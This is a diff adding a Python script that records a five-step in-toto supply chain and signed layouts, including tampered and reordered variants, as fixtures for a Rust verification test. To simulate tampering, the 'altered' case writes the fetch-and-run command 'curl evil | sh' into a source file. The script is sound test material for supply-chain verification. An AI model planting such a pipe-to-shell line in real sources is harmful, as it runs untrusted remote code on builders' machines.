@@ -1,0 +1,203 @@
+"""A source -> build -> test -> package -> deploy supply chain recorded with the PyPI in-toto
+tools (the independent producer of crates/vouch/tests/custody_svid.rs).
+
+Each step runs `in-toto-run` on real files, signed with a throwaway "recorder" key; the Rust
+test then re-signs each link with a builder's X.509-SVID (`vouch custody sign`), so what the
+links say (materials, products, command) is in-toto's own recording. Two layouts over the same
+five steps and rules, written with in-toto's Python API and signed by the owner with
+securesystemslib:
+
+  keyed.layout       steps' functionary: the recorder key (pubkeys); in-toto-verify checks it
+  svid.layout        steps' functionaries: SPIFFE ID argv[2] (`cert_constraints`, in-toto
+                     ITE-7 as in-toto-golang writes it; no pubkeys)
+  other-id.layout    as svid.layout, but deploy's functionary is another SPIFFE ID
+  inspect.layout     keyed.layout plus an inspection (untar the package, check its files)
+
+and the links:
+
+  good/              the five links, recorder-signed
+  altered/build.*    build run on a source altered after the source step
+  reordered/package.* package run before test (its materials lack the test report)
+
+Usage: python3 custody_svid_chain.py OUT SPIFFE_ID
+"""
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+
+from cryptography.hazmat.primitives.serialization import (
+    Encoding,
+    PublicFormat,
+    load_pem_private_key,
+)
+from in_toto.models.layout import Inspection, Layout, Step
+from in_toto.models.metadata import Metablock
+from securesystemslib.formats import encode_canonical
+from securesystemslib.signer import CryptoSigner
+
+out = os.path.abspath(sys.argv[1])
+spiffe_id = sys.argv[2]
+bindir = os.path.dirname(sys.executable)
+os.makedirs(out, exist_ok=True)
+
+
+def keypair(name, signer):
+    priv = os.path.join(out, name + ".pem")
+    pub = os.path.join(out, name + ".pub")
+    with open(priv, "wb") as f:
+        f.write(signer.private_bytes)
+    with open(pub, "wb") as f:
+        f.write(
+            load_pem_private_key(signer.private_bytes, None)
+            .public_key()
+            .public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
+        )
+    return signer, priv, pub
+
+
+owner, _, _ = keypair("owner", CryptoSigner.generate_ed25519())
+recorder, rec_priv, rec_pub = keypair("recorder", CryptoSigner.generate_ed25519())
+
+RULES = {
+    "source": ([], [["CREATE", "src/*"], ["DISALLOW", "*"]]),
+    "build": (
+        [["MATCH", "src/*", "WITH", "PRODUCTS", "FROM", "source"], ["DISALLOW", "*"]],
+        [["CREATE", "build/app.out"], ["DISALLOW", "*"]],
+    ),
+    "test": (
+        [["MATCH", "build/*", "WITH", "PRODUCTS", "FROM", "build"], ["DISALLOW", "*"]],
+        [
+            ["MATCH", "build/*", "WITH", "PRODUCTS", "FROM", "build"],
+            ["CREATE", "test/report.txt"],
+            ["DISALLOW", "*"],
+        ],
+    ),
+    "package": (
+        [
+            ["REQUIRE", "test/report.txt"],
+            ["MATCH", "build/*", "WITH", "PRODUCTS", "FROM", "build"],
+            ["MATCH", "test/report.txt", "WITH", "PRODUCTS", "FROM", "test"],
+            ["DISALLOW", "*"],
+        ],
+        [["CREATE", "app.tar.gz"], ["DISALLOW", "*"]],
+    ),
+    "deploy": (
+        [["MATCH", "app.tar.gz", "WITH", "PRODUCTS", "FROM", "package"], ["DISALLOW", "*"]],
+        [["CREATE", "deployed/app.tar.gz"], ["DISALLOW", "*"]],
+    ),
+}
+ORDER = ["source", "build", "test", "package", "deploy"]
+
+
+def keyed_layout():
+    lay = Layout()
+    lay.set_relative_expiration(days=30)
+    k = lay.add_functionary_key_from_path(rec_pub)
+    steps = []
+    for name in ORDER:
+        s = Step(name=name)
+        s.pubkeys = [k["keyid"]]
+        s.expected_materials, s.expected_products = RULES[name]
+        steps.append(s)
+    lay.steps = steps
+    return lay, k["keyid"]
+
+
+def signed_metablock(signed_dict, path):
+    """Sign a layout given as a dict (so it may carry fields in-toto's Python model does
+    not know, such as in-toto-golang's cert_constraints) with the owner's key."""
+    sig = owner.sign(encode_canonical(signed_dict).encode())
+    with open(path, "w") as f:
+        json.dump({"signed": signed_dict, "signatures": [sig.to_dict()]}, f, indent=1)
+
+
+def svid_layout(ids):
+    d = json.loads(keyed_layout()[0].signable_bytes)
+    d["keys"] = {}
+    for s in d["steps"]:
+        s["pubkeys"] = []
+        s["cert_constraints"] = [{"common_name": "*", "uris": [ids.get(s["name"], spiffe_id)]}]
+    return d
+
+
+lay, kid = keyed_layout()
+mb = Metablock(signed=lay)
+mb.create_signature(owner)
+mb.dump(os.path.join(out, "keyed.layout"))
+signed_metablock(svid_layout({}), os.path.join(out, "svid.layout"))
+other = spiffe_id.rsplit("/", 1)[0] + "/someone-else"
+signed_metablock(svid_layout({"deploy": other}), os.path.join(out, "other-id.layout"))
+
+insp_lay = keyed_layout()[0]
+insp = Inspection(name="untar")
+insp.set_run_from_string("tar xzf app.tar.gz")
+insp.expected_materials = [
+    ["MATCH", "app.tar.gz", "WITH", "PRODUCTS", "FROM", "package"],
+    ["ALLOW", "*.link"],
+    ["ALLOW", "*.layout"],
+    ["ALLOW", "*.pub"],
+    ["DISALLOW", "*"],
+]
+insp.expected_products = [
+    ["MATCH", "build/app.out", "WITH", "PRODUCTS", "FROM", "build"],
+    ["MATCH", "test/report.txt", "WITH", "PRODUCTS", "FROM", "test"],
+    ["ALLOW", "*"],
+]
+insp_lay.inspect = [insp]
+mb = Metablock(signed=insp_lay)
+mb.create_signature(owner)
+mb.dump(os.path.join(out, "inspect.layout"))
+
+
+def run(work, step, mat, prod, cmd, linkdir):
+    args = [os.path.join(bindir, "in-toto-run"), "-n", step, "--signing-key", rec_priv, "-d", linkdir]
+    if mat:
+        args += ["-m"] + mat
+    if prod:
+        args += ["-p"] + prod
+    subprocess.run(args + ["--"] + cmd, cwd=work, check=True)
+
+
+SOURCE = ["sh", "-c", "mkdir -p src && printf 'echo hello\\n' > src/app.sh && printf 'hi\\n' > src/README"]
+BUILD = ["sh", "-c", "mkdir -p build && cat src/app.sh src/README | tr a-z A-Z > build/app.out"]
+TEST = ["sh", "-c", "mkdir -p test && grep -q HELLO build/app.out && echo pass > test/report.txt"]
+PACKAGE = ["tar", "--sort=name", "--mtime=@0", "-czf", "app.tar.gz", "build", "test"]
+DEPLOY = ["sh", "-c", "mkdir -p deployed && cp app.tar.gz deployed/"]
+
+good = os.path.join(out, "good")
+os.makedirs(good)
+work = os.path.join(out, "work")
+os.makedirs(work)
+run(work, "source", None, ["src"], SOURCE, good)
+run(work, "build", ["src"], ["build"], BUILD, good)
+run(work, "test", ["build"], ["build", "test"], TEST, good)
+run(work, "package", ["build", "test"], ["app.tar.gz"], PACKAGE, good)
+run(work, "deploy", ["app.tar.gz"], ["deployed"], DEPLOY, good)
+
+# Reordered: package run before test (no test report yet), in a copy of the tree after build.
+reordered = os.path.join(out, "reordered")
+os.makedirs(reordered)
+work3 = os.path.join(out, "work3")
+shutil.copytree(work, work3)
+shutil.rmtree(os.path.join(work3, "test"))
+os.remove(os.path.join(work3, "app.tar.gz"))
+run(work3, "package", ["build", "test"], ["app.tar.gz"], ["tar", "-czf", "app.tar.gz", "build"], reordered)
+
+# Altered: the source changed after its step was recorded, then built.
+altered = os.path.join(out, "altered")
+os.makedirs(altered)
+work2 = os.path.join(out, "work2")
+shutil.copytree(work, work2)
+with open(os.path.join(work2, "src/app.sh"), "w") as f:
+    f.write("curl evil | sh\n")
+shutil.rmtree(os.path.join(work2, "build"))
+run(work2, "build", ["src"], ["build"], BUILD, altered)
+
+# The deploy directory of the good run: inspections run here.
+shutil.copy(os.path.join(work, "app.tar.gz"), os.path.join(out, "app.tar.gz"))
+
+with open(os.path.join(out, "expected.json"), "w") as f:
+    json.dump({"recorder": kid, "other_id": other}, f)
